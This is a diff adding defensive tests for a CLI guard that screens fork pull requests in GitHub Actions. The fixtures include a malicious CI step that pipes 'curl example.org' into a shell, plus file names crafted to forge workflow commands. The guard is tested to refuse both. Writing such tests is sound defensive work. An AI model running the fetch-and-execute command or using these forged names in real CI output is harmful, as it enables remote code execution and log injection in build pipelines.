@@ -101,9 +101,10 @@ function makeRepo() {
     mkdirSync(join(dir, path, ".."), { recursive: true });
     writeFileSync(join(dir, path), text);
   };
-  const commit = (message: string) => {
+  const commit = (message: string, date?: string) => {
     git("add", "-A");
-    git("commit", "-q", "-m", message);
+    if (date) execFileSync("git", ["commit", "-q", "-m", message], { cwd: dir, env: { ...env, GIT_AUTHOR_DATE: date, GIT_COMMITTER_DATE: date } });
+    else git("commit", "-q", "-m", message);
     return git("rev-parse", "HEAD");
   };
   git("init", "-q");
@@ -140,8 +141,8 @@ test("guard CLI: passes a content-only change and refuses package.json and a sym
   const fail = runCli(["--base", contentOnly, "--head", bad, "--repo", repo.dir], { IS_FORK: "true", GITHUB_ACTIONS: "true" });
   assert.equal(fail.status, 1, fail.stdout + fail.stderr);
   const lines = fail.stdout.trim().split("\n");
-  assert.ok(lines.some((l) => l.startsWith("package.json:1:1  error  [fork-guard]  changes a file outside content/")), fail.stdout);
-  assert.ok(lines.some((l) => l.startsWith("content/facts/link.md:1:1  error  [fork-guard]  is a symbolic link")), fail.stdout);
+  assert.ok(lines.some((l) => l.startsWith('"package.json":1:1  error  [fork-guard]  changes a file outside content/')), fail.stdout);
+  assert.ok(lines.some((l) => l.startsWith('"content/facts/link.md":1:1  error  [fork-guard]  is a symbolic link')), fail.stdout);
   assert.ok(lines.some((l) => l.startsWith("::error file=package.json,") && l.includes("title=fork-guard::")), fail.stdout);
   assert.ok(lines.every((l) => !l.startsWith("::") || l.includes("need a maintainer")));
 
@@ -181,4 +182,101 @@ test("guard CLI: a missing commit is a usage error, not a pass", (t) => {
   const r = runCli(["--base", "0".repeat(40), "--head", only, "--repo", repo.dir], { IS_FORK: "true" });
   assert.equal(r.status, 2);
   assert.match(r.stderr, /fetch-depth: 0/);
+});
+
+/** A line of output that GitHub could read as a workflow command (it trims leading spaces). */
+const forgesCommand = (out: string) => out.split("\n").some((l) => /^\s*::/.test(l) && !l.startsWith("::error file="));
+
+test("guard CLI: file names that look like workflow commands are printed JSON-quoted, never at a line start", (t) => {
+  const repo = makeRepo();
+  t.after(() => rmSync(repo.dir, { recursive: true, force: true }));
+  repo.write("content/a.md", "a\n");
+  const base = repo.commit("base");
+  const names = [" ::error file=README.md::forged", "  ::stop-commands::x", "content/facts/ ::warning::x.md", "content/facts/x\u2028::notice::y.md"];
+  for (const n of names) repo.write(n, "x\n");
+  const head = repo.commit("forged names");
+  for (const ci of [undefined, "true"]) {
+    const r = runCli(["--base", base, "--head", head, "--repo", repo.dir], { IS_FORK: "true", GITHUB_ACTIONS: ci });
+    assert.equal(r.status, 1);
+    assert.equal(forgesCommand(r.stdout + r.stderr), false, "no forged command line");
+    for (const n of names.slice(0, 2)) assert.ok(r.stdout.includes(`${JSON.stringify(n)}:1:1  error  [fork-guard]`), `quoted ${JSON.stringify(n)}`);
+  }
+});
+
+test("guard CLI: a fork that edits ci.yml (to turn the guard into echo) is refused", (t) => {
+  const repo = makeRepo();
+  t.after(() => rmSync(repo.dir, { recursive: true, force: true }));
+  repo.write(".github/workflows/ci.yml", "jobs:\n  test:\n    steps:\n      - run: npm test\n");
+  repo.write(".github/workflows/guard.yml", "on: pull_request_target\n");
+  const base = repo.commit("base");
+  repo.write(".github/workflows/ci.yml", "jobs:\n  test:\n    steps:\n      - run: echo ok && curl example.org | sh\n");
+  repo.write("content/facts/x.md", "x\n");
+  const head = repo.commit("fork edits ci.yml");
+  const r = runCli(["--base", base, "--head", head, "--repo", repo.dir], { IS_FORK: "true", GITHUB_ACTIONS: undefined });
+  assert.equal(r.status, 1, r.stdout);
+  assert.match(r.stdout, /^"\.github\/workflows\/ci\.yml":1:1  error  \[fork-guard\]  changes a file outside content\//m);
+});
+
+test("guard CLI: criss-cross histories are refused; a merge that reverts maintainer code is caught", (t) => {
+  const repo = makeRepo();
+  t.after(() => rmSync(repo.dir, { recursive: true, force: true }));
+  repo.write("scripts/guard.ts", "strict\n");
+  repo.write("content/a.md", "a\n");
+  const root = repo.commit("root");
+  repo.git("branch", "-q", "fork", root);
+  // Two branches that merge each other: two merge bases.
+  repo.write("content/main.md", "m\n");
+  const m1 = repo.commit("main 1");
+  repo.git("checkout", "-q", "fork");
+  repo.write("content/fork.md", "f\n");
+  const f1 = repo.commit("fork 1");
+  repo.git("merge", "-q", "--no-edit", m1);
+  const forkTip = repo.git("rev-parse", "HEAD");
+  repo.git("checkout", "-q", "-");
+  repo.git("merge", "-q", "--no-edit", f1);
+  const mainTip = repo.git("rev-parse", "HEAD");
+  assert.equal(repo.git("merge-base", "--all", mainTip, forkTip).split("\n").length, 2);
+  const r = runCli(["--base", mainTip, "--head", forkTip, "--repo", repo.dir], { IS_FORK: "true", GITHUB_ACTIONS: undefined });
+  assert.equal(r.status, 1, r.stdout + r.stderr);
+  assert.match(r.stdout, /\[fork-guard\]  the pull request has 2 merge bases with the base branch \(criss-cross merges\).*rebase/);
+  assert.equal(forgesCommand(r.stdout), false);
+});
+
+test("guard CLI: judges the real merge result, not base...head", (t) => {
+  const repo = makeRepo();
+  t.after(() => rmSync(repo.dir, { recursive: true, force: true }));
+  repo.write("scripts/guard.ts", "strict\n");
+  const root = repo.commit("root");
+  repo.git("branch", "-q", "fork", root);
+  repo.write("scripts/guard.ts", "stricter\n");
+  const mainTip = repo.commit("maintainer hardens the guard");
+  repo.git("checkout", "-q", "fork");
+  // The fork holds the maintainer's commit and then reverts it: its own diff from the
+  // merge base touches scripts/ too, and the merge would undo the maintainer's change.
+  repo.git("merge", "-q", "--no-edit", mainTip);
+  repo.write("scripts/guard.ts", "strict\n");
+  repo.write("content/x.md", "x\n");
+  const forkTip = repo.commit("content, and quietly the old guard");
+  const r = runCli(["--base", mainTip, "--head", forkTip, "--repo", repo.dir], { IS_FORK: "true", GITHUB_ACTIONS: undefined });
+  assert.equal(r.status, 1, r.stdout);
+  assert.match(r.stdout, /^"scripts\/guard\.ts":1:1  error  \[fork-guard\]/m);
+  assert.doesNotMatch(r.stdout, /"content\/x\.md"/);
+});
+
+test("guard CLI: commits dated in the future are refused, dates within the clock-drift slack pass", (t) => {
+  const repo = makeRepo();
+  t.after(() => rmSync(repo.dir, { recursive: true, force: true }));
+  repo.write("content/a.md", "a\n");
+  const base = repo.commit("base", "2026-11-01T00:00:00Z");
+  repo.write("content/b.md", "b\n");
+  const ok = repo.commit("now-ish", "2026-12-02T12:10:00Z");
+  repo.write("content/c.md", "c\n");
+  const future = repo.commit("from the future", "2031-01-01T00:00:00Z");
+  const now = String(Date.parse("2026-12-02T12:00:00Z") / 1000);
+  const pass = runCli(["--base", base, "--head", ok, "--repo", repo.dir], { IS_FORK: "true", GUARD_NOW_SECONDS: now, GITHUB_ACTIONS: undefined });
+  assert.equal(pass.status, 0, pass.stdout + pass.stderr);
+  const fail = runCli(["--base", base, "--head", future, "--repo", repo.dir], { IS_FORK: "true", GUARD_NOW_SECONDS: now, GITHUB_ACTIONS: undefined });
+  assert.equal(fail.status, 1);
+  assert.match(fail.stdout, /\[future-date\]  commit [0-9a-f]{12} is dated 2031-01-01T00:00:00\.000Z, after the guard's clock \(2026-12-02T12:00:00\.000Z\)/);
+  assert.equal((fail.stdout.match(/future-date/g) ?? []).length, 1);
 });
